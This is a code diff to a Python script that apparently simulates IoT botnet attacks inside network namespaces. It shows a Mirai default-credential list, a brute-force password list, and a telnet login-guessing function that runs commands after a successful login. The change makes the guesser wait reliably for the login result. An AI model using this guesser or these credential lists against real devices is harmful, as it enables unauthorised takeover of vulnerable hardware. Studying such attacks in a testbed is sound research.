@@ -24,7 +24,7 @@ MIRAI_CREDENTIALS = [
     ("root", "xc3511"), ("root", "vizxv"), ("admin", "admin"), ("root", "admin"),
     ("root", "888888"), ("root", "default"), ("support", "support"), ("root", "12345"),
 ]  # fmt: skip
-BRUTEFORCE_PASSWORDS = ["123456", "password", "admin", "root", "12345678", "toor", "default"]
+BRUTEFORCE_PASSWORDS = ["123456", "password", "admin", "toor"]
 SCENARIO_SECONDS = 60
 DEVICE_HOSTS = DEVICES.values()
 
@@ -136,12 +136,15 @@ def run(plan: Plan, name: str) -> dict[str, Any]:
 # -- clients, run inside a namespace ---------------------------------------------------------
 
 
-def _telnet_read(sock: socket.socket, wait: float) -> bytes:
-    """What arrives within ``wait`` seconds, refusing every telnet option the server offers."""
+def _telnet_read(sock: socket.socket, wait: float, until: tuple[bytes, ...] = ()) -> bytes:
+    """What arrives within ``wait`` seconds (or until one of ``until`` shows), refusing every
+    telnet option the server offers."""
     sock.settimeout(wait)
     out = bytearray()
+    deadline = time.monotonic() + wait
     try:
-        while data := sock.recv(4096):
+        while not any(u in out for u in until) and (data := sock.recv(4096)):
+            sock.settimeout(max(deadline - time.monotonic(), 0.01))
             i = 0
             while i < len(data):
                 if data[i] == 255 and i + 2 < len(data) and data[i + 1] in (251, 252, 253, 254):
@@ -169,7 +172,8 @@ def telnet_guess(address: str, port: int, pairs: list[str], after: str) -> dict[
                 sock.sendall(user.encode() + b"\r\n")
                 _telnet_read(sock, 0.5)
                 sock.sendall(password.encode() + b"\r\n")
-                reply = _telnet_read(sock, 1.0)
+                # Wait for the verdict: BusyBox login logs a failure only after its delay.
+                reply = _telnet_read(sock, 5.0, until=(b"incorrect", b"# ", b"$ "))
                 if b"#" in reply or b"$" in reply:
                     successes += 1
                     for command in filter(None, after.split(";")):
